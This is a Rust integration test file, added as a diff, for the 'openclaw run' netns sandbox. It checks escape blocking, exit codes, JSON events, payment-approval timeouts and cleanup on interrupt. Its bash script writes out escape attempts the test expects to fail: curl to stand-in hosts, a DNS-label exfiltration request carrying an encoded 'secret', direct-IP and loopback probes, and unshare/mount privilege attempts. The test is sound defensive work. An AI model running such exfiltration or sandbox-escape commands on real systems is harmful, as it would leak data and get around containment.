@@ -1,0 +1,401 @@
+//! `openclaw run` through the real binary on the netns backend: escape
+//! attempts from inside the sandbox (each fails; those that reach the proxy
+//! are receipted), exit codes, NDJSON events, unanswered approvals, and a
+//! clean end on Ctrl-C. Upstreams are local HTTPS servers with their own CA.
+
+use std::io::{BufRead, BufReader};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::time::Duration;
+
+use serde_json::Value;
+use test_support::{TestCa, Upstream};
+
+const POLICY: &str = r#"
+ttl = "10m"
+
+[web]
+allow = ["api.example.com"]
+methods = ["GET"]
+
+[payment]
+merchant = "shop.example.com"
+currency = "USD"
+max_per_charge = "100.00"
+max_total = "100.00"
+approval_above = "10.00"
+card = "shop_card"
+"#;
+
+const CATALOG: &str = r#"
+[[rule]]
+name = "shop purchase"
+host = "shop.example.com"
+method = "POST"
+path = "/buy"
+type = "payment"
+amount = { json = "/total" }
+amount_unit = "major"
+currency = { json = "/currency" }
+merchant = { value = "shop.example.com" }
+"#;
+
+struct Home {
+    dir: tempfile::TempDir,
+    ca_pem: PathBuf,
+}
+
+impl Home {
+    /// A fresh openclaw home with keys, a minted token and a catalog.
+    fn new(ca: &TestCa) -> Home {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let home = Home {
+            ca_pem: ca.write_pem(dir.path()),
+            dir,
+        };
+        let keygen = home.openclaw().arg("keygen").output().expect("keygen");
+        assert!(keygen.status.success());
+        std::fs::write(home.path().join("policy.toml"), POLICY).expect("policy");
+        std::fs::write(home.path().join("catalog.toml"), CATALOG).expect("catalog");
+        let mint = home
+            .openclaw()
+            .args(["cap", "mint"])
+            .arg(home.path().join("policy.toml"))
+            .arg("-o")
+            .arg(home.path().join("task.cap"))
+            .output()
+            .expect("mint");
+        assert!(
+            mint.status.success(),
+            "{}",
+            String::from_utf8_lossy(&mint.stderr)
+        );
+        home
+    }
+
+    fn path(&self) -> &Path {
+        self.dir.path()
+    }
+
+    fn openclaw(&self) -> Command {
+        let mut cmd = Command::new(env!("CARGO_BIN_EXE_openclaw"));
+        cmd.env("OPENCLAW_HOME", self.path())
+            .env_remove("RUST_LOG")
+            .stdin(Stdio::null());
+        cmd
+    }
+
+    /// `openclaw run` with the token, catalog and upstream wiring.
+    fn run(&self, upstream: &Upstream, extra: &[&str], script: &str) -> Command {
+        let mut cmd = self.openclaw();
+        cmd.arg("run")
+            .arg("--capabilities")
+            .arg(self.path().join("task.cap"))
+            .arg("--catalog")
+            .arg(self.path().join("catalog.toml"))
+            .arg("--backend")
+            .arg("netns")
+            .arg("--upstream-ca")
+            .arg(&self.ca_pem)
+            .arg("--resolve")
+            .arg(format!("api.example.com={}", upstream.addr))
+            .arg("--resolve")
+            .arg(format!("shop.example.com={}", upstream.addr))
+            .args(extra)
+            .args(["--", "/bin/bash", "-c", script]);
+        cmd
+    }
+
+    fn only_session(&self) -> PathBuf {
+        let mut sessions: Vec<PathBuf> = std::fs::read_dir(self.path().join("sessions"))
+            .expect("sessions")
+            .map(|e| e.expect("entry").path())
+            .collect();
+        assert_eq!(sessions.len(), 1, "{sessions:?}");
+        sessions.remove(0)
+    }
+
+    fn verify(&self, dir: &Path) -> Output {
+        self.openclaw()
+            .arg("verify")
+            .arg(dir)
+            .arg("--key")
+            .arg(self.path().join("keys/receipt.pub"))
+            .arg("--cap-pubkey")
+            .arg(self.path().join("keys/root.pub"))
+            .output()
+            .expect("verify")
+    }
+}
+
+fn upstream_runtime() -> tokio::runtime::Runtime {
+    tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(2)
+        .enable_all()
+        .build()
+        .expect("runtime")
+}
+
+fn decisions(dir: &Path) -> Vec<Value> {
+    std::fs::read_to_string(dir.join("receipts.jsonl"))
+        .expect("receipts")
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).expect("receipt json"))
+        .filter(|r| r["kind"] == "decision")
+        .collect()
+}
+
+fn assert_verifies(home: &Home, dir: &Path) {
+    let out = home.verify(dir);
+    assert!(
+        out.status.success(),
+        "verify: {}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// Each attempt prints `FAIL <name>` if it got through; the script exits
+/// with the number of escapes.
+const ESCAPES: &str = r#"
+set -u
+escapes=0
+got_through() { echo "FAIL $1"; escapes=$((escapes+1)); }
+proxy=$(awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf)
+
+# The granted host works (so the failures below are not a broken network).
+curl -sS -f --max-time 10 https://api.example.com/hello >/dev/null || { echo "granted host failed"; exit 100; }
+
+# Unlisted names do not resolve (and are receipted as blocked).
+curl -sS --max-time 5 https://evil.example.net/ >/dev/null 2>&1 && got_through dns-unlisted
+# DNS exfiltration through long labels.
+label=$(printf 'c2VjcmV0%.0s' 1 2 3 4 5 6 7)
+curl -sS --max-time 5 "https://$label.x.exfil.example.org/" >/dev/null 2>&1 && got_through dns-exfil
+# Direct IP to the proxy address: TLS without a name is refused.
+curl -sk --max-time 5 "https://$proxy/" >/dev/null 2>&1 && got_through direct-ip
+# Other ports on the only reachable address.
+curl -s --max-time 5 "http://$proxy:8080/" >/dev/null 2>&1 && got_through other-port
+# The host's loopback services are not this sandbox's loopback.
+curl -s --max-time 5 "http://127.0.0.1:$UPSTREAM_PORT/hello" >/dev/null 2>&1 && got_through host-loopback
+# IPv6.
+curl -s -6 --max-time 5 https://api.example.com/hello >/dev/null 2>&1 && got_through ipv6
+# UDP to anything but the resolver goes nowhere: no route leaves the namespace.
+ip route 2>/dev/null | grep -q default && got_through default-route
+# The openclaw home (keys, secrets, other sessions) is not visible.
+ls "$HOST_HOME" >/dev/null 2>&1 && got_through home-visible
+# Privileges cannot be regained.
+unshare -r true >/dev/null 2>&1 && got_through unshare
+mount -t tmpfs none /tmp >/dev/null 2>&1 && got_through mount
+echo "escapes: $escapes"
+exit $escapes
+"#;
+
+#[test]
+fn escape_attempts_fail_and_those_reaching_the_proxy_are_receipted() {
+    let rt = upstream_runtime();
+    let ca = TestCa::new("run-session test upstream");
+    let upstream = rt.block_on(Upstream::https(
+        &ca,
+        &["api.example.com", "shop.example.com"],
+        &[b"http/1.1"],
+    ));
+    let home = Home::new(&ca);
+    let script = ESCAPES
+        .replace("$UPSTREAM_PORT", &upstream.addr.port().to_string())
+        .replace("$HOST_HOME", &home.path().display().to_string());
+    let out = home.run(&upstream, &[], &script).output().expect("run");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "stdout: {stdout}\nstderr: {stderr}"
+    );
+    assert!(stdout.contains("escapes: 0"), "{stdout}");
+
+    let dir = home.only_session();
+    let decisions = decisions(&dir);
+    let blocked_hosts: Vec<&str> = decisions
+        .iter()
+        .filter(|d| d["decision"]["decision"] == "block")
+        .filter_map(|d| d["action"]["host"].as_str())
+        .collect();
+    assert!(
+        blocked_hosts.contains(&"evil.example.net"),
+        "{blocked_hosts:?}"
+    );
+    assert!(
+        blocked_hosts
+            .iter()
+            .any(|h| h.ends_with("x.exfil.example.org")),
+        "{blocked_hosts:?}"
+    );
+    assert!(
+        decisions
+            .iter()
+            .any(|d| d["decision"]["decision"] == "allow"
+                && d["action"]["host"] == "api.example.com"),
+        "{decisions:?}"
+    );
+    // The upstream saw only the granted request.
+    assert_eq!(upstream.requests(), 1);
+    assert_verifies(&home, &dir);
+    let session: Value =
+        serde_json::from_slice(&std::fs::read(dir.join("session.json")).expect("session.json"))
+            .expect("json");
+    assert_eq!(session["status"], "completed");
+    assert_eq!(session["backend"], "netns");
+}
+
+#[test]
+fn exit_code_passes_through_and_json_events_are_ndjson() {
+    let rt = upstream_runtime();
+    let ca = TestCa::new("run-session test upstream");
+    let upstream = rt.block_on(Upstream::https(&ca, &["api.example.com"], &[b"http/1.1"]));
+    let home = Home::new(&ca);
+    let out = home
+        .run(
+            &upstream,
+            &["--json-events"],
+            "curl -sS -f https://api.example.com/hello; echo out-line; echo err-line >&2; exit 7",
+        )
+        .output()
+        .expect("run");
+    assert_eq!(out.status.code(), Some(7));
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.contains("out-line"), "{stdout}");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    let events: Vec<Value> = stderr
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .collect();
+    assert!(
+        events
+            .iter()
+            .any(|e| e["kind"] == "allowed" && e["host"] == "api.example.com"),
+        "{stderr}"
+    );
+    assert!(
+        events.iter().any(|e| e["kind"] == "session_started"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("err-line"));
+    let dir = home.only_session();
+    let console = std::fs::read_to_string(dir.join("console.log")).expect("console.log");
+    assert!(console.contains("out-line") && console.contains("err-line"));
+    let session: Value =
+        serde_json::from_slice(&std::fs::read(dir.join("session.json")).expect("session.json"))
+            .expect("json");
+    assert_eq!(session["exit_code"], 7);
+    assert_eq!(session["status"], "failed");
+}
+
+#[test]
+fn without_a_terminal_an_unanswered_approval_is_denied_at_the_timeout() {
+    let rt = upstream_runtime();
+    let ca = TestCa::new("run-session test upstream");
+    let upstream = rt.block_on(Upstream::https(
+        &ca,
+        &["api.example.com", "shop.example.com"],
+        &[b"http/1.1"],
+    ));
+    let home = Home::new(&ca);
+    let script = r#"code=$(curl -s -o /dev/null -w '%{http_code}' -X POST https://shop.example.com/buy \
+        -H 'content-type: application/json' -d '{"total":"25.00","currency":"USD"}'); echo "status $code""#;
+    let out = home
+        .run(&upstream, &["--approval-timeout", "2s"], script)
+        .output()
+        .expect("run");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.contains("status 403"), "{stdout}");
+    assert_eq!(
+        upstream.requests(),
+        0,
+        "a denied payment never reaches the shop"
+    );
+    let dir = home.only_session();
+    let receipts: Vec<Value> = std::fs::read_to_string(dir.join("receipts.jsonl"))
+        .expect("receipts")
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("json"))
+        .collect();
+    let approval = receipts
+        .iter()
+        .find(|r| r["kind"] == "approval")
+        .expect("an approval receipt");
+    assert_eq!(approval["approved"], false);
+    assert_eq!(approval["approver"], "timeout");
+    assert_verifies(&home, &dir);
+    let report: Value =
+        serde_json::from_slice(&std::fs::read(dir.join("report.json")).expect("report"))
+            .expect("json");
+    assert_eq!(report["counts"]["approvals"]["expired"], 1);
+    assert_eq!(report["spend"]["payments_cents"], 0);
+}
+
+#[test]
+fn interrupt_ends_the_session_cleanly() {
+    let rt = upstream_runtime();
+    let ca = TestCa::new("run-session test upstream");
+    let upstream = rt.block_on(Upstream::https(&ca, &["api.example.com"], &[b"http/1.1"]));
+    let home = Home::new(&ca);
+    let mut child = home
+        .run(
+            &upstream,
+            &[],
+            "curl -sS https://api.example.com/hello; sleep 60",
+        )
+        .stderr(Stdio::piped())
+        .stdout(Stdio::null())
+        .spawn()
+        .expect("spawn");
+    let stderr = child.stderr.take().expect("stderr");
+    let mut lines = BufReader::new(stderr).lines();
+    // Wait until the request went through: the sandbox is up and working.
+    loop {
+        let line = lines.next().expect("openclaw ended early").expect("line");
+        if line.contains("allowed") && line.contains("api.example.com") {
+            break;
+        }
+    }
+    let session = home.only_session();
+    let netns = format!(
+        "openclaw-{}",
+        session.file_name().expect("name").to_string_lossy()
+    );
+    nix::sys::signal::kill(
+        nix::unistd::Pid::from_raw(child.id() as i32),
+        nix::sys::signal::Signal::SIGINT,
+    )
+    .expect("SIGINT");
+    let status = wait_timeout(&mut child, Duration::from_secs(30));
+    assert_eq!(status.code(), Some(130));
+    let info: Value =
+        serde_json::from_slice(&std::fs::read(session.join("session.json")).expect("session"))
+            .expect("json");
+    assert_eq!(info["status"], "interrupted");
+    assert_verifies(&home, &session);
+    let namespaces = Command::new("ip")
+        .args(["netns", "list"])
+        .output()
+        .expect("ip");
+    let namespaces = String::from_utf8_lossy(&namespaces.stdout);
+    assert!(
+        !namespaces.contains(&netns),
+        "{netns} left behind: {namespaces}"
+    );
+}
+
+fn wait_timeout(child: &mut std::process::Child, limit: Duration) -> std::process::ExitStatus {
+    let deadline = std::time::Instant::now() + limit;
+    loop {
+        if let Some(status) = child.try_wait().expect("try_wait") {
+            return status;
+        }
+        if std::time::Instant::now() > deadline {
+            let _ = child.kill();
+            panic!("openclaw did not end within {limit:?} of SIGINT");
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
